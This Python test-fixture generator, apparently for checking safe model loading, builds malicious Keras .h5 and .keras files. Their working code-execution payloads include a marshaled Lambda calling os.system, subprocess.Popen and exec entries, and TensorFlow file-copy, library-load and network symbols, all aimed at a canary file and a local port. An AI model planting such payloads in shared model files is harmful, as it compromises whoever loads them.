"""Generates malicious Keras files: every way in which a file can contain a symbol, path, text, code or nested model.

`write(folder, canary)` makes the files without any framework. Their payloads are real: where nothing prevents it, they
write the canary's file, start a program that does, or connect to the canary's port.
"""

import base64
import json
import marshal
import zipfile
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import h5py

Entry = dict[str, Any]


@dataclass(frozen=True)
class Canary:
    """Canary of the malicious models.

    Attributes:
        file: Must not appear.
        source: A file for them to copy and read.
        port: Must get no connection.
    """

    file: Path
    source: Path
    port: int

    @property
    def shell(self) -> str:
        return f"touch '{self.file}'"


def layer(class_name: str, config: Entry, module: str | None = None, **more: Any) -> Entry:
    return {"class_name": class_name, "config": {"name": "evil", **config}, "module": module,
            "registered_name": None, **more}  # fmt: skip


def dense(**config: Any) -> Entry:
    return layer("Dense", {"units": 2, "activation": "linear", **config}, "keras.layers")


def lambda_with_code(canary: Canary) -> Entry:
    code = compile(f"lambda x: (__import__('os').system({canary.shell!r}), x)[1]", "evil", "eval").co_consts[0]
    packed = base64.b64encode(marshal.dumps(code)).decode()
    return {"class_name": "Lambda", "module": "keras.layers", "registered_name": None, "config": {
        "name": "evil", "function": [packed, None, None], "function_type": "lambda", "module": "builtins",
        "output_shape": None, "output_shape_type": "raw", "output_shape_module": None, "arguments": {}}}  # fmt: skip


def keras3_lambda(canary: Canary) -> Entry:
    function = lambda_with_code(canary)["config"]["function"][0]
    return layer("Lambda", {"function": {"class_name": "__lambda__", "config": {
        "code": function, "value": function, "defaults": None, "closure": None}}, "arguments": {}},
        "keras.layers")  # fmt: skip


def functional(entry: Entry, calls: list[Any], shape: tuple[int | None, ...] = (None, 4)) -> Entry:
    """Config of a functional model, as Keras 2 writes it into .h5: an input, and the entry called with `calls`."""
    source = {"class_name": "InputLayer", "name": "x", "inbound_nodes": [],
              "config": {"name": "x", "batch_input_shape": list(shape), "dtype": "float32"}}  # fmt: skip
    placed = {**entry, "name": "evil", "inbound_nodes": [calls]}
    return {"class_name": "Functional", "config": {
        "name": "model", "trainable": True, "layers": [source, placed],
        "input_layers": [["x", 0, 0]], "output_layers": [["evil", 0, 0]]}}  # fmt: skip


def constant(value: Any, **kwargs: Any) -> list[Any]:
    return ["_CONSTANT_VALUE", -1, value, kwargs]


def symbol_calls(canary: Canary) -> Iterator[tuple[str, str, list[Any], Entry]]:
    """Functions of TensorFlow and Keras with harmful arguments: name, symbol, positional and keyword arguments."""
    file, source = str(canary.file), str(canary.source)
    inner = json.dumps(functional(lambda_with_code(canary), [["x", 0, 0, {}]]))
    address = f"127.0.0.1:{canary.port}"
    yield "copy", "io.gfile.copy", [source], {"dst": file, "overwrite": True}
    yield "rename", "io.gfile.rename", [source], {"dst": file, "overwrite": True}
    yield "makedirs", "io.gfile.makedirs", [file], {}
    yield "mkdir", "io.gfile.mkdir", [file], {}
    yield "write_file", "io.write_file", [file], {"contents": "x"}
    yield "read_file", "io.read_file", [source], {}
    yield "print", "print", ["x"], {"output_stream": f"file://{file}"}
    yield "summary", "summary.create_file_writer", [file], {}
    yield "dump", "debugging.experimental.enable_dump_debug_info", [file], {}
    yield "profiler", "profiler.experimental.start", [file], {}
    yield "profiler_server", "profiler.experimental.server.start", [canary.port + 1], {}
    yield "connect", "config.experimental_connect_to_host", [address], {}
    yield "load_library", "load_library", [source], {}
    yield "load_op_library", "load_op_library", [source], {}
    yield "saved_model", "saved_model.load", [str(canary.source.parent)], {}
    yield "get_file", "keras.utils.get_file", ["x"], {"origin": f"http://{address}/x", "cache_dir": file}
    yield "model_from_json", "keras.models.model_from_json", [inner], {}
    yield "load_model", "keras.models.load_model", [source], {}
    yield "deserialize", "keras.layers.deserialize", [json.loads(inner)], {}
    yield "activations", "keras.activations.deserialize", [file], {}
    yield "csv", "keras.callbacks.CSVLogger", [file], {}
    yield "experimental_unsafe", "keras.__internal__.enable_unsafe_deserialization", [], {}
    yield "python", "numpy_function", ["x"], {"inp": [], "Tout": "float32"}
    yield "import_graph", "graph_util.import_graph_def", [source], {}
    yield "data_file", "data.TextLineDataset", [source], {}
    yield "server", "distribute.Server", [{"local": [address]}], {}
    yield "set_seed", "random.set_seed", [1], {}
    yield "device", "device", ["/job:worker"], {}


def symbol_models(canary: Canary) -> Iterator[tuple[str, Entry]]:
    for name, symbol, given, by_name in symbol_calls(canary):
        # A class method takes a list and a dict of arguments; a function takes the first input and its arguments.
        listed = [constant(value, kwargs=by_name) for value in given] or [["x", 0, 0, {"kwargs": by_name}]]
        straight = constant(given[0], **by_name) if given else ["x", 0, 0, by_name]
        parts = {"cls_symbol": symbol, "method_name": "__call__"}
        yield f"classmethod-{name}", functional(layer("ClassMethod", parts), listed)
        yield f"tfoplambda-{name}", functional(layer("TFOpLambda", {"function": symbol}), straight)
        yield f"slicing-{name}", functional(layer("SlicingOpLambda", {"function": symbol}), straight)
        yield f"compat-{name}", functional(layer("TFOpLambda", {"function": f"compat.v1.{symbol}"}), straight)
        by_method = {"attr_name": symbol.rpartition(".")[2]}
        yield f"instancemethod-{name}", functional(layer("InstanceMethod", by_method), listed)


def operation_models(canary: Canary) -> Iterator[tuple[str, Entry]]:
    file, source = str(canary.file), str(canary.source)
    for operation, constants in (
        ("WriteFile", {"0": file, "1": "x"}), ("ReadFile", {"0": source}), ("PrintV2", {"0": "x"}),
        ("SaveV2", {"0": file}), ("TextLineDataset", {"0": source}), ("EagerPyFunc", {}), ("ImmutableConst", {}),
        ("LoadDataset", {"0": file}), ("MatchingFiles", {"0": "/*"}), ("FileSystemSetConfiguration", {"0": "s3"}),
    ):  # fmt: skip
        node = {"name": "n", "op": operation, "input": ["x"], "attr": {}}
        for shape, value in (("dict", node), ("text", json.dumps(node))):
            entry = layer("TensorFlowOpLayer", {"node_def": value, "constants": constants})
            yield f"tensorflowop-{operation}-{shape}", functional(entry, [["x", 0, 0, {}]])


def nested(canary: Canary) -> Iterator[tuple[str, Entry]]:
    """Code in every place of a configuration where Keras deserializes an object."""
    plain, call = lambda_with_code(canary), [["x", 0, 0, {}]]
    inner = functional(plain, call)
    places: dict[str, Callable[[Entry], Entry]] = {
        "plain": lambda evil: evil,
        "wrapper": lambda evil: layer("TimeDistributed", {"layer": evil}),
        "bidirectional": lambda evil: layer("Bidirectional", {"layer": evil, "merge_mode": "concat"}),
        "backward": lambda evil: layer("Bidirectional", {"layer": dense(), "backward_layer": evil}),
        "cell": lambda evil: layer("RNN", {"cell": evil}),
        "cells": lambda evil: layer("RNN", {"cell": layer("StackedRNNCells", {"cells": [evil]})}),
        "activation": lambda evil: dense(activation=evil),
        "initializer": lambda evil: dense(kernel_initializer=evil),
        "regularizer": lambda evil: dense(kernel_regularizer=evil),
        "constraint": lambda evil: dense(bias_constraint=evil),
        "dtype": lambda evil: dense(dtype=evil),
        "model": lambda evil: {**functional(evil, call), "config": {**functional(evil, call)["config"]}},
        "sequential": lambda evil: layer("Sequential", {"layers": [evil]}),
        "old_sequential": lambda evil: {"class_name": "Sequential", "config": [evil]},
        "compiled": lambda evil: {**layer("Sequential", {"layers": [dense()]}),
                                  "compile_config": {"loss": evil, "optimizer": evil}},
        "built": lambda evil: {**dense(), "build_config": {"input_shape": evil}},
        "passive": lambda evil: dense(units={**evil, "__passive_serialization__": True}),
        "list": lambda evil: dense(units=[[evil]]),
        "text": lambda evil: dense(units=json.dumps(evil)),
        "text_in_text": lambda evil: dense(units=json.dumps({"class_name": "Dense", "config": json.dumps(evil)})),
        "vocabulary": lambda evil: layer("StringLookup", {"vocabulary": json.dumps([evil])}),
        "standardize": lambda evil: layer("TextVectorization", {"standardize": evil}),
        "shared": lambda evil: {**evil, "shared_object_id": 1},
    }  # fmt: skip
    evils = {"keras2": plain, "keras3": keras3_lambda(canary), "model": inner,
             "residual": layer("ResidualWrapper", {"cell": layer("LSTMCell", {"units": 2}),
                               "residual_fn": plain["config"]["function"], "residual_fn_type": "lambda"})}  # fmt: skip
    for place, put in places.items():
        for kind, evil in evils.items():
            yield f"nested-{place}-{kind}", functional(put(evil), call)


def named_elsewhere(canary: Canary) -> Iterator[tuple[str, Entry]]:
    """Names that are not classes of models, and false modules."""
    for class_name, module, config in (
        ("get_file", "keras.utils", {"fname": "x", "origin": f"http://127.0.0.1:{canary.port}/x"}),
        ("system", "os", {"command": canary.shell}), ("Popen", "subprocess", {"args": canary.shell, "shell": True}),
        ("exec", "builtins", {"source": canary.shell}), ("deserialize", "keras.layers", {"config": {}}),
        ("enable_unsafe_deserialization", "keras.config", {}), ("KerasFileEditor", "keras.saving", {}),
        ("load_model", "keras.models", {"filepath": str(canary.source)}), ("PyDataset", "keras.utils", {}),
        ("TFSMLayer", "keras.layers", {"filepath": str(canary.source.parent)}), ("JaxLayer", "keras.layers", {}),
        ("FlaxLayer", "keras.layers", {}), ("TorchModuleWrapper", "keras.layers", {"module": "gASVAA=="}),
        ("ModelCheckpoint", "keras.callbacks", {"filepath": str(canary.file)}),
        ("BackupAndRestore", "keras.callbacks", {"backup_dir": str(canary.file)}),
        ("TensorBoard", "keras.callbacks", {"log_dir": str(canary.file)}),
        ("StringLookup", "keras.layers", {"vocabulary": str(canary.source)}),
        ("IntegerLookup", "keras.layers", {"vocabulary": str(canary.source)}),
        ("TextVectorization", "keras.layers", {"vocabulary": str(canary.source)}),
        ("StringLookup", "keras.layers", {"vocabulary": ["a"], "idf_weights": str(canary.source)}),
        ("DenseFeatures", "keras.layers", {"feature_columns": [{"class_name": "VocabularyFileCategoricalColumn",
            "config": {"key": "x", "vocabulary_file": str(canary.source), "vocabulary_size": 1, "dtype": "string"}}]}),
        ("SequenceFeatures", "keras.layers", {"feature_columns": []}), ("AddMetric", None, {"metric_name": "x"}),
        ("__typespec__", "subprocess", [canary.shell]), ("TypeSpec", None, {"type_spec": "tf.TensorSpec"}),
    ):  # fmt: skip
        entry = {"class_name": class_name, "module": module, "config": config, "registered_name": class_name}
        yield f"elsewhere-{module}-{class_name}", functional(entry, [["x", 0, 0, {}]])
        disguised = {**entry, "class_name": "Dense", "registered_name": class_name}
        yield f"disguised-{module}-{class_name}", functional(disguised, [["x", 0, 0, {}]])


def every_class(canary: Canary, class_names: list[str]) -> Iterator[tuple[str, Entry]]:
    """Each Keras class with an unknown setting: a symbol, a path, a serialized model as text, or a nested Lambda."""
    evil = lambda_with_code(canary)
    ways = {"symbol": ("function", "io.gfile.copy"), "path": ("vocabulary_file", str(canary.source)),
            "text": ("layer_json", json.dumps(evil)), "nested": ("inner", evil)}  # fmt: skip
    for number, class_name in enumerate(class_names):
        way = list(ways)[number % len(ways)]
        key, value = ways[way]
        yield f"class-{class_name}-{way}", functional(layer(class_name, {key: value}), [["x", 0, 0, {}]])


def write_h5(path: Path, config: Entry, version: str = "2.15.0") -> Path:
    with h5py.File(path, "w") as file:
        file.attrs["model_config"] = json.dumps(config)
        file.attrs["keras_version"] = version
        file.attrs["backend"] = "tensorflow"
        group = file.create_group("model_weights")
        group.attrs["layer_names"] = []
        group.attrs["keras_version"] = version
    return path


def write_keras(path: Path, config: Entry, version: str) -> Path:
    weights = write_h5(path.with_suffix(".weights"), {}, version)
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("config.json", json.dumps({"module": "keras", "registered_name": None, **config}))
        archive.writestr("metadata.json", json.dumps({"keras_version": version}))
        archive.write(weights, "model.weights.h5")
    weights.unlink()
    return path


def models(canary: Canary, class_names: list[str]) -> Iterator[tuple[str, Entry]]:
    """All malicious configurations with their names."""
    yield from symbol_models(canary)
    yield from operation_models(canary)
    yield from nested(canary)
    yield from named_elsewhere(canary)
    yield from every_class(canary, class_names)


def write(folder: Path, canary: Canary, class_names: list[str]) -> list[Path]:
    """Writes each configuration as .h5 of Keras 2, and in turn also as .keras of Keras 2 or 3."""
    paths = []
    for number, (name, config) in enumerate(models(canary, class_names)):
        paths.append(write_h5(folder / f"{name}.h5", config))
        if number % 3 == 1:
            paths.append(write_keras(folder / f"{name}-2.keras", config, "2.15.0"))
        elif number % 3 == 2:
            paths.append(write_keras(folder / f"{name}-3.keras", config, "3.12.0"))
    return paths
